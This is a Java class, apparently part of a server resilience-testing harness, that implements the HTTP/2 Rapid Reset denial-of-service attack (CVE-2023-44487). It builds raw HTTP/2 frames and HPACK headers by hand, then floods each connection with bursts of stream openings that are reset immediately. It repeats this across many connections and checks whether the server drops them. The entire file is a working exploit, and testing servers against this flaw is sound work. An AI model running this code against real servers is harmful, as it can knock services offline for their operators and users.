package attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;

/** Streams of HTTP/2 that are reset as soon as they are opened (CVE-2023-44487). */
final class RapidReset implements Attack {

    @Override
    public String name() {
        return "HTTP/2 streams, reset at once";
    }

    @Override
    public String carryOut(Target target) throws Exception {
        AtomicLong streams = new AtomicLong();
        AtomicLong ended = new AtomicLong();
        long connections = Load.repeat(() -> {
            try (Connection connection = target.connect()) {
                connection.out("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                connection.out(frame(4, 0, 0, new byte[0]));
                for (int i = 0; i < 20; i++) {
                    ByteArrayOutputStream burst = new ByteArrayOutputStream();
                    for (int j = 0; j < 100; j++) {
                        int stream = 1 + 2 * (100 * i + j);
                        burst.writeBytes(frame(1, 5, stream, headers("/api/v1/people?name=reset" + streams.get())));
                        burst.writeBytes(frame(3, 0, stream, new byte[] {0, 0, 0, 8}));
                        streams.incrementAndGet();
                    }
                    connection.out(burst.toByteArray());
                }
                target.check(connection.ended(), "a connection that resets all its streams is kept");
                ended.incrementAndGet();
            } catch (IOException reset) {
                ended.incrementAndGet();
            }
        });
        return "%,d streams on %,d connections; the server ended %,d"
                .formatted(streams.get(), connections, ended.get());
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    /** GET, http, a path and an authority, as HPACK (RFC 7541) has them without compression. */
    private static byte[] headers(String path) {
        byte[] bytes = path.getBytes(StandardCharsets.US_ASCII);
        return ByteBuffer.allocate(7 + bytes.length)
                .put(new byte[] {(byte) 0x82, (byte) 0x86, 0x04, (byte) bytes.length})
                .put(bytes)
                .put(new byte[] {0x01, 0x01, 'a'})
                .array();
    }
}
